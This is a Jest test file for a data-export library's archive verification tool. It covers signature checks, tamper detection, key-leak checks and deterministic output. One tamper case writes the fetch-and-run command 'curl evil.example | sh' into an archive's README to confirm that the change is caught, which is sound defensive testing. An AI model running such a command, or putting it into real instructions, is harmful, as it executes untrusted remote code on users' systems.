import { generateKeyPairSync, KeyObject } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { PassThrough } from 'node:stream';
import * as yauzl from 'yauzl';
import { ExportEvent, ExportPrincipal, ExportStatus } from 'nestjs-data-export';
import { ZipStreamWriter } from '../../lib/archive/zip-stream.writer';
import { DATABASES } from '../utils/databases';
import { createTestApp, downloadArchive, TestApp, waitForExport } from '../utils/test-app';
import { readZipEntries } from '../utils/zip';
import { buildVerifyCli, firstLine, VerifyCli } from '../utils/verify-cli';
import { HELP_DESK_ENTITIES } from '../fixtures/help-desk.entities';
import { seedHelpDesk, TEAM_A } from '../fixtures/help-desk.seed';
import { CapturingLogger } from '../utils/capturing-logger';

const OWNER_A: ExportPrincipal = { userId: 'user-a1', accountId: TEAM_A, role: 'owner' };
const KEY_ID = 'exports-test-1';

const pem = (key: KeyObject, type: 'pkcs8' | 'spki') => key.export({ format: 'pem', type }) as string;
const signingKeys = generateKeyPairSync('ed25519');
const otherKeys = generateKeyPairSync('ed25519');

let cli: VerifyCli;
let dir: string;
beforeAll(async () => {
  cli = await buildVerifyCli();
  dir = mkdtempSync(join(tmpdir(), 'data-export-verify-'));
  writeFileSync(join(dir, 'signing.pub.pem'), pem(signingKeys.publicKey, 'spki'));
  writeFileSync(join(dir, 'other.pub.pem'), pem(otherKeys.publicKey, 'spki'));
}, 60_000);
afterAll(() => {
  cli?.remove();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

/** Writes `entries` as a new ZIP, with the library's ZIP writer: a re-packed archive. */
async function repack(entries: { name: string; data: Buffer }[]): Promise<Buffer> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const zip = new ZipStreamWriter(out, { level: 6 });
  for (const e of entries) await zip.addBuffer(e.name, e.data, new Date(1980, 0, 1));
  await zip.finalize();
  return Buffer.concat(chunks);
}

/** Central directory fields of every entry, as yauzl reads them. */
function headers(bytes: Buffer): Promise<Record<string, unknown>[]> {
  return new Promise((resolve, reject) => {
    yauzl.fromBuffer(bytes, { lazyEntries: false }, (err, zip) => {
      if (err || !zip) return reject(err);
      const rows: Record<string, unknown>[] = [];
      zip.on('entry', (e: yauzl.Entry) =>
        rows.push({
          name: e.fileName,
          versionMadeBy: e.versionMadeBy,
          versionNeeded: e.versionNeededToExtract,
          flags: e.generalPurposeBitFlag,
          method: e.compressionMethod,
          time: e.lastModFileTime,
          date: e.lastModFileDate,
          crc32: e.crc32,
          compressed: e.compressedSize,
          size: e.uncompressedSize,
          offset: e.relativeOffsetOfLocalHeader,
          attributes: e.externalFileAttributes,
          extra: e.extraFields.map((f) => f.id),
        }),
      );
      zip.on('end', () => resolve(rows));
      zip.on('error', reject);
    });
  });
}

/** Pieces of the signing key that must never leave the options: PEM lines, JWK `d`, raw bytes. */
function keyTraces(): { text: string[]; raw: Buffer } {
  const lines = pem(signingKeys.privateKey, 'pkcs8').split('\n').filter((l) => l && !l.startsWith('-----'));
  const raw = Buffer.from(signingKeys.privateKey.export({ format: 'der', type: 'pkcs8' }) as Buffer).subarray(-32);
  return { text: [...lines, signingKeys.privateKey.export({ format: 'jwk' }).d!, raw.toString('base64'), raw.toString('hex')], raw };
}

describe.each(DATABASES)('verify on %s', (db) => {
  let t: TestApp;
  let n = 0;
  const logger = new CapturingLogger();
  const events: ExportEvent[] = [];

  beforeAll(async () => {
    t = await createTestApp(db, {
      entities: HELP_DESK_ENTITIES,
      exportOptions: { batchSize: 7, signing: { privateKey: pem(signingKeys.privateKey, 'pkcs8'), keyId: KEY_ID } },
      logger,
    });
    await seedHelpDesk(t.dataSource);
    t.service.events$.subscribe((e) => events.push(e));
  });
  afterAll(() => t?.close());

  async function exportFile(format = 'zip'): Promise<{ path: string; bytes: Buffer; sha256: string; rows: number }> {
    const view = await t.service.request(OWNER_A, { format } as never);
    const row = await waitForExport(t.dataSource, view.id);
    expect([row.status, row.error]).toEqual([ExportStatus.Completed, null]);
    const bytes = await downloadArchive(t, row.id, OWNER_A);
    await t.dataSource.query(`UPDATE data_exports SET ${t.dataSource.driver.escape('activeSlot')} = NULL, ${t.dataSource.driver.escape('status')} = 'expired', ${t.dataSource.driver.escape('completedAt')} = NULL`);
    const path = join(dir, `${db}-${++n}.${format}`);
    writeFileSync(path, bytes);
    return { path, bytes, sha256: row.sha256!, rows: Object.values(row.counts ?? {}).reduce((a, b) => a + b, 0) };
  }

  async function writeVariant(name: string, bytes: Buffer): Promise<string> {
    const path = join(dir, `${db}-${name}`);
    writeFileSync(path, bytes);
    return path;
  }

  it('passes a good archive, checks its signature with the right key and refuses another key', async () => {
    const good = await exportFile();
    expect(firstLine(cli.main)).toBe('#!/usr/bin/env node');
    // The package's bin is this file once built (tsconfig.build.json: lib/ → dist/), made executable.
    const pkg = JSON.parse(readFileSync(join(__dirname, '../../package.json'), 'utf8'));
    expect(pkg.bin).toEqual({ 'nestjs-data-export': 'dist/cli/main.js' });
    expect(pkg.scripts.build).toContain('chmod +x dist/cli/main.js');
    expect(pkg.files).toContain('dist');
    const plain = await cli.run(['verify', good.path]);
    expect(plain).toMatchObject({ code: 0, stderr: '' });
    expect(plain.stdout).toBe(`OK ${good.path}: 4 categories, ${good.rows} rows, sha256 ${good.sha256}, signed (signature not checked: give --key)\n`);
    expect(good.rows).toBeGreaterThan(20);

    const signed = await cli.run(['verify', good.path, '--key', join(dir, 'signing.pub.pem')]);
    expect(signed).toMatchObject({ code: 0, stdout: `OK ${good.path}: 4 categories, ${good.rows} rows, sha256 ${good.sha256}, signature valid (key ${KEY_ID})\n` });
    const json = await cli.run(['verify', good.path, '--key', join(dir, 'signing.pub.pem'), '--json']);
    expect(JSON.parse(json.stdout)).toEqual({ archive: good.path, ok: true, format: 'zip', categories: 4, rows: good.rows, sha256: good.sha256, signature: 'valid', keyId: KEY_ID });

    const wrong = await cli.run(['verify', good.path, '--key', join(dir, 'other.pub.pem')]);
    expect(wrong.code).toBe(1);
    expect(wrong.stdout).toMatch(new RegExp(`^FAILED ${good.path}: manifest\\.json: its signature does not match the key given`));

    // The manifest names its signature; the private key is nowhere in the archive.
    const entries = await readZipEntries(good.bytes);
    expect(entries.map((e) => e.name).slice(-2)).toEqual(['manifest.json', 'manifest.sig']);
    const manifest = JSON.parse(entries.find((e) => e.name === 'manifest.json')!.data.toString('utf8'));
    expect(manifest.signature).toEqual({ algorithm: 'Ed25519', file: 'manifest.sig', keyId: KEY_ID });
    // The manifest lists README.txt and the schemas with their checksums; README.txt says how to check.
    expect(manifest.files.map((f: { path: string }) => f.path)).toEqual(entries.map((e) => e.name).filter((name) => name === 'README.txt' || name.startsWith('schemas/')));
    const readme = entries.find((e) => e.name === 'README.txt')!.data.toString('utf8');
    for (const line of ['npx nestjs-data-export verify <this-file>.zip', 'sha256sum customers.ndjson', 'shasum -a 256 customers.ndjson', 'Get-FileHash customers.ndjson -Algorithm SHA256 ', '--key <public-key.pem>']) {
      expect(readme).toContain(line);
    }
    const { text, raw } = keyTraces();
    for (const haystack of [good.bytes, ...entries.map((e) => e.data)]) {
      for (const part of text) expect(haystack.includes(part)).toBe(false);
      expect(haystack.includes(raw)).toBe(false);
    }
    // Nor in the logs, the events or the export's view.
    const view = JSON.stringify(await t.service.list(OWNER_A));
    expect(logger.lines.length + events.length).toBeGreaterThan(3);
    for (const haystack of [logger.lines.join('\n'), JSON.stringify(events), view]) {
      for (const part of text) expect(haystack.includes(part)).toBe(false);
    }
  });

  it('names the file of a tampered archive', async () => {
    const good = await exportFile();
    const entries = await readZipEntries(good.bytes);
    const edit = (name: string, change: (data: Buffer) => Buffer) => entries.map((e) => ({ name: e.name, data: e.name === name ? change(e.data) : e.data }));

    // One letter of one row changed, the ZIP re-packed: still valid JSON, but not the bytes the manifest hashed.
    const flipped = await repack(
      edit('tickets.ndjson', (data) => {
        const copy = Buffer.from(data);
        const at = copy.indexOf('"subject":"') + '"subject":"'.length;
        copy[at] = copy[at] === 0x41 ? 0x42 : 0x41;
        return copy;
      }),
    );
    const a = await cli.run(['verify', await writeVariant('flipped.zip', flipped)]);
    expect(a.code).toBe(1);
    expect(a.stdout).toMatch(/: tickets\.ndjson: its sha256 is [0-9a-f]{64}, manifest\.json says [0-9a-f]{64}\n$/);

    // A row that breaks its schema is named by its line.
    const badRow = await repack(edit('messages.ndjson', (data) => Buffer.from(data.toString('utf8').replace('"internal":false', '"internal":"no"'))));
    const b = await cli.run(['verify', await writeVariant('bad-row.zip', badRow)]);
    expect(b.stdout).toMatch(/: messages\.ndjson: line \d+ does not match its schema: \/internal must be boolean\n$/);

    // A byte of the stored ZIP flipped: the entry's compressed data is damaged.
    const damaged = Buffer.from(good.bytes);
    const offset = (await headers(good.bytes)).find((h) => h.name === 'customers.ndjson')!.offset as number;
    damaged[offset + 30 + 'customers.ndjson'.length + 20] ^= 0xff;
    const c = await cli.run(['verify', await writeVariant('damaged.zip', damaged)]);
    expect(c.code).toBe(1);
    expect(c.stdout).toMatch(/: customers\.ndjson: (its CRC-32 does not match|it cannot be inflated|it holds)/);

    // The manifest edited: its signature no longer holds; without a key the counts catch it.
    const edited = edit('manifest.json', (data) => Buffer.from(data.toString('utf8').replace(/("name": "webhooks",[^}]*?"rows": )(\d+)/, (_, head, rows) => `${head}${Number(rows) + 1}`)));
    expect(edited.find((e) => e.name === 'manifest.json')!.data.equals(entries.find((e) => e.name === 'manifest.json')!.data)).toBe(false);
    const editedPath = await writeVariant('edited-manifest.zip', await repack(edited));
    const d = await cli.run(['verify', editedPath, '--key', join(dir, 'signing.pub.pem')]);
    expect(d.stdout).toMatch(/: manifest\.json: its signature does not match the key given/);
    const e = await cli.run(['verify', editedPath]);
    expect(e.stdout).toMatch(/: webhooks\.ndjson: holds \d+ rows, manifest\.json says \d+\n$/);

    // README.txt and the schemas are covered too: changed instructions, a loosened schema.
    const readme = await repack(edit('README.txt', (data) => Buffer.from(data.toString('utf8').replace('npx nestjs-data-export verify', 'curl evil.example | sh #'))));
    expect((await cli.run(['verify', await writeVariant('readme.zip', readme)])).stdout).toMatch(/: README\.txt: (its sha256 is [0-9a-f]{64}, manifest\.json says [0-9a-f]{64}|is \d+ bytes, manifest\.json says \d+)\n$/);
    const loose = await repack(edit('schemas/tickets.schema.json', (data) => Buffer.from(JSON.stringify({ ...JSON.parse(data.toString('utf8')), additionalProperties: true }))));
    expect((await cli.run(['verify', await writeVariant('schema.zip', loose)])).stdout).toMatch(/: schemas\/tickets\.schema\.json: (its sha256|is \d+ bytes)/);

    // A file the manifest does not describe, and a listed one that is missing.
    const extra = await repack([...entries, { name: 'extra.ndjson', data: Buffer.from('{}\n') }]);
    expect((await cli.run(['verify', await writeVariant('extra.zip', extra)])).stdout).toMatch(/: extra\.ndjson: is in the archive but not described by manifest\.json\n$/);
    const missing = await repack(entries.filter((x) => x.name !== 'customers.ndjson'));
    expect((await cli.run(['verify', await writeVariant('missing.zip', missing)])).stdout).toMatch(/: customers\.ndjson: is listed in manifest\.json but missing from the archive\n$/);
    // The signature removed: with a key, that fails.
    const unsigned = await repack(entries.filter((x) => x.name !== 'manifest.sig'));
    expect((await cli.run(['verify', await writeVariant('no-sig.zip', unsigned), '--key', join(dir, 'signing.pub.pem')])).stdout).toMatch(/: manifest\.sig: is missing, though manifest\.json says it is signed\n$/);
    // Cut short: no central directory.
    const cut = await cli.run(['verify', await writeVariant('cut.zip', good.bytes.subarray(0, good.bytes.length - 200))]);
    expect(cut.stdout).toMatch(/-cut\.zip: (not a ZIP file|its central directory)/);
    expect(cut.code).toBe(1);
  });

  it('passes a signed CSV archive and names the CSV file that was changed', async () => {
    const good = await exportFile('csv');
    const ok = await cli.run(['verify', good.path, '--key', join(dir, 'signing.pub.pem')]);
    expect(ok).toMatchObject({ code: 0, stdout: `OK ${good.path}: 4 categories, ${good.rows} rows, sha256 ${good.sha256}, signature valid (key ${KEY_ID})\n` });
    const entries = await readZipEntries(good.bytes);
    expect(entries.some((e) => e.name === 'tickets.csv')).toBe(true);
    // One letter of one cell changed, the archive packed again: the CSV's sha256 no longer matches.
    const changed = entries.map((e) => (e.name === 'tickets.csv' ? { name: e.name, data: Buffer.from(e.data.toString('utf8').replace('Ticket', 'Tacket')) } : e));
    const bad = await cli.run(['verify', await writeVariant('changed.csv.zip', await repack(changed))]);
    expect(bad.code).toBe(1);
    expect(bad.stdout).toMatch(/-changed\.csv\.zip: tickets\.csv: its sha256 is [0-9a-f]+, manifest\.json says [0-9a-f]+\n$/);
  });

  it('checks json and json.gz documents against their summary', async () => {
    for (const format of ['json', 'json.gz']) {
      const good = await exportFile(format);
      const ok = await cli.run(['verify', good.path]);
      expect(ok).toMatchObject({ code: 0, stdout: `OK ${good.path}: 4 categories, ${good.rows} rows, sha256 ${good.sha256}\n` });
    }
    const doc = await exportFile('json');
    const text = doc.bytes.toString('utf8');
    const dropped = text.replace(/\{[^\n]*\},\n/, '');
    expect((await cli.run(['verify', await writeVariant('dropped.json', Buffer.from(dropped))])).stdout).toMatch(/-dropped\.json: data\.\w+ holds \d+ rows, the summary says \d+\n$/);
    const extra = text.replace('"data":{', '"data":{"extra":[],');
    expect((await cli.run(['verify', await writeVariant('extra.json', Buffer.from(extra))])).stdout).toMatch(/-extra\.json: data\.extra is not in the summary\n$/);
    const cut = await cli.run(['verify', await writeVariant('cut.json', doc.bytes.subarray(0, Math.floor(doc.bytes.length / 2)))]);
    expect(cut.stdout).toMatch(/-cut\.json: the document ends before its last value is complete\n$/);
    const gz = await exportFile('json.gz');
    const cutGz = await cli.run(['verify', await writeVariant('cut.json.gz', gz.bytes.subarray(0, gz.bytes.length - 10))]);
    expect(cutGz.code).toBe(1);
    expect(cutGz.stdout).toMatch(/-cut\.json\.gz: /);
  });

  it('writes the same bytes for the same rows, apart from the manifest', async () => {
    const first = await exportFile();
    const second = await exportFile();
    const [a, b] = [await readZipEntries(first.bytes), await readZipEntries(second.bytes)];
    expect(a.map((e) => e.name)).toEqual(b.map((e) => e.name));
    for (const [i, entry] of a.entries()) {
      if (entry.name === 'manifest.json' || entry.name === 'manifest.sig') continue;
      expect([entry.name, entry.data.equals(b[i].data)]).toEqual([entry.name, true]);
    }
    const blank = (data: Buffer) => JSON.parse(data.toString('utf8'), (key, value) => (key === 'exportId' || key === 'exportedAt' ? '' : value));
    const manifestA = blank(a.find((e) => e.name === 'manifest.json')!.data);
    expect(manifestA).toEqual(blank(b.find((e) => e.name === 'manifest.json')!.data));
    expect(Object.keys(manifestA)).toEqual(['exportVersion', 'exportId', 'accountId', 'kind', 'requestedBy', 'exportedAt', 'format', 'filters', 'categories', 'files', 'summary', 'notIncluded', 'signature']);
    // Every byte before the manifest (headers and data of the other entries) is the same, and
    // the central directory differs only in the manifest's and its signature's checksum and size.
    const [ha, hb] = [await headers(first.bytes), await headers(second.bytes)];
    const manifestOffset = ha.find((h) => h.name === 'manifest.json')!.offset as number;
    expect(first.bytes.subarray(0, manifestOffset).equals(second.bytes.subarray(0, manifestOffset))).toBe(true);
    const fixed = (h: Record<string, unknown>) => (h.name === 'manifest.json' || h.name === 'manifest.sig' ? { ...h, crc32: 0, compressed: 0, size: 0, offset: 0 } : h);
    expect(ha.map(fixed)).toEqual(hb.map(fixed));
    // 1980-01-01 00:00 in the DOS format, in every entry.
    for (const h of ha) expect([h.date, h.time]).toEqual([(0 << 9) | (1 << 5) | 1, 0]);

    // A json document differs only in its export's id and time too.
    const [docA, docB] = [await exportFile('json'), await exportFile('json')];
    const heads = (doc: Buffer) => doc.toString('utf8').replace(/"exportId":"[^"]+"/, '"exportId":""').replace(/"exportedAt":"[^"]+"/, '"exportedAt":""');
    expect(heads(docA.bytes)).toBe(heads(docB.bytes));
  });
});
